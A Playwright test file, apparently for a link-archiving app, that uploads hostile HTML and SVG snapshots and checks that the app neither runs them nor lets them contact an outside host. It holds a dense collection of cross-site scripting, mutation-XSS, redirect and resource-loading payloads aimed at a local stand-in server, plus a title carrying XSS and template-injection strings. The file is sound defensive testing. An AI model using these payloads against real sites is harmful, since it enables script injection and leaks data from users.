import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { addLinks, expect, type Person, row, test as base } from '../support/story.js'

/** Somebody else's site, which hears of whoever an archived page makes come. */
const test = base.extend<{ elsewhere: { url: string; asked: string[] } }>({
  elsewhere: async ({ browserName: _ }, use) => {
    const asked: string[] = []
    const server = createServer((request, response) => {
      asked.push(request.url ?? '')
      response.setHeader('access-control-allow-origin', '*').end()
    })
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
    await use({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked })
    server.closeAllConnections()
    server.close()
  },
})

const name = `"><img src=x onerror=alert(1)>{{ 7 * 7 }}`

/** What wants to run, load, send and lead elsewhere. */
function attack(to: string): string {
  const script = `fetch('${to}/ran'); top.location = '${to}/led'; alert(document.title = 'ran')`
  return `<script>${script}</script><script src="${to}/script"></script><img src="x" onerror="${script}">
    <svg onload="${script}"><script>${script}</script></svg><math><mtext><table><mglyph><style><img src=x onerror="${script}">
    </style></mglyph></table></mtext></math><iframe srcdoc="<script>${script}</script>"></iframe><iframe src="${to}/frame"></iframe>
    <iframe src="data:text/html,<script>${script}</script><img src=${to}/inner><meta http-equiv=refresh content=0;url=${to}/on>"></iframe>
    <object data="${to}/object"></object><embed src="${to}/embed">
    <meta http-equiv="refresh" content="0;url=${to}/refresh"><link rel="stylesheet" href="${to}/sheet"><link rel="prefetch" href="${to}/pre">
    <style>@import "${to}/import"; body { background: url(${to}/background) }</style><p style="background:url(${to}/style)">styled</p>
    <img src="${to}/picture" srcset="${to}/picture 2x"><video src="${to}/video" poster="${to}/poster" autoplay></video>
    <form action="${to}/form"><input autofocus onfocus="${script}"></form><a href="javascript:${script}">a link</a><base href="${to}/">`
}

interface HostileFile {
  kind: string
  fileName: string
  contentType: string
  body: string
}

/** Uploads files as a snapshot of a link; returns where each kind of file is shown. */
async function keep({ ask }: Person, linkId: string, files: HostileFile[]): Promise<(kind: string) => string> {
  const { createSnapshot } = await ask<{
    createSnapshot: {
      snapshot: { id: string }
      grants: { put: { url: string; headers: { name: string; value: string }[] }; upload: { id: string } }[]
    }
  }>(
    `mutation ($input: CreateSnapshotInput!) { createSnapshot(input: $input) {
      snapshot { id } grants { put { url headers { name value } } upload { id } } } }`,
    { input: { linkId, files: files.map(({ body: _, ...file }) => file) } },
  )
  for (const [index, { put, upload }] of createSnapshot.grants.entries()) {
    const headers = put.headers.map(({ name, value }): [string, string] => [name, value])
    await fetch(put.url, { method: 'PUT', headers, body: files[index]?.body })
    await ask(`mutation { completeUpload(id: "${upload.id}") { id } }`)
  }
  const { snapshot } = await ask<{ snapshot: { artifacts: { kind: string; url: string }[] } }>(
    `{ snapshot(id: "${createSnapshot.snapshot.id}") { artifacts { kind url } } }`,
  )
  return (kind) => snapshot.artifacts.find((each) => each.kind === kind)?.url ?? ''
}

test('what others wrote is shown, and runs, loads and leads nowhere', async ({
  product,
  owner,
  context,
  elsewhere,
  faults,
}) => {
  const { page } = owner
  const dialogs: string[] = []
  context.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const hostile = attack(elsewhere.url)
  const [linkId = ''] = await addLinks(owner, [{ url: 'https://example.org/', title: name, tags: [name] }])
  const urlOf = await keep(owner, linkId, [
    {
      kind: 'HTML',
      fileName: 'page.html',
      contentType: 'text/html',
      body: `<!DOCTYPE html><title>page</title><p>Shown</p>${hostile}`,
    },
    {
      kind: 'ARTICLE',
      fileName: 'article.html',
      contentType: 'text/html',
      body: `<!DOCTYPE html><body><article><p>Told</p>${hostile}</article>`,
    },
    {
      kind: 'FILE',
      fileName: `${name}.svg`,
      contentType: 'image/svg+xml',
      body: `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${elsewhere.url}/svg')"/>`,
    },
  ])
  await page.goto(product.url)
  await expect(row(page, name)).toBeVisible()
  await page.goto(`${product.url}/links/${linkId}`)
  await expect(page).toHaveTitle(new RegExp(name.replace(/[^\w ]/g, '\\$&')))
  await expect(page.getByRole('heading', { name })).toBeVisible()
  await expect(page.frameLocator('iframe').getByText('Shown')).toBeVisible()
  await page.getByRole('tab', { name: 'Article' }).click()
  const article = page.getByRole('article')
  await expect(article.getByText('Told')).toBeVisible()
  await expect(article.locator('script, style, iframe, object, embed, form, input, img, svg, [style]')).toHaveCount(0)
  await page.getByRole('tab', { name: 'Files' }).click()
  await expect(page.getByText(`${name}.svg`)).toBeVisible()

  const alone = await context.newPage()
  await alone.goto(urlOf('HTML'))
  await expect(alone.getByText('Shown')).toBeVisible()
  await expect(alone).toHaveTitle('page')
  const download = alone.waitForEvent('download')
  await alone.goto(urlOf('FILE')).catch(() => undefined)
  await (await download).cancel()

  // Whoever had been asked before would have been heard before this.
  await alone.goto(`${elsewhere.url}/by-hand`)
  expect(elsewhere.asked.filter((path) => path !== '/favicon.ico')).toEqual(['/by-hand'])
  expect(dialogs).toEqual([])
  // The archived page's policy refuses what it tries: that is as it should be.
  faults.length = 0
})
